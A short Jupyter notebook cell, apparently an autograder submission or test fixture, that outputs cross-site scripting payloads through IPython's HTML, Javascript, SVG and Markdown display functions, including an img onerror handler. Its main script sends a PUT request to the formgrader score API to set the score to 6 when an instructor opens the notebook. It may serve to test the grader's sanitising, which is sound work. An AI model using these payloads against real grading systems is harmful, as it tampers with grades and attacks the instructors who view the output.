# Show a page that would act in the instructor's browser.

# %% answer="Momentum"
from IPython.display import HTML, Javascript, Markdown, SVG, display

script = "<script>fetch('/formgrader/api/score', {method: 'PUT', body: '6'})</script>"
display(HTML(script))
display(Javascript("alert(6)"))
display(SVG(data=f"<svg xmlns='http://www.w3.org/2000/svg'>{script}</svg>"))
display(Markdown(f"<img src=x onerror='alert(6)'> {script}"))
print(script)
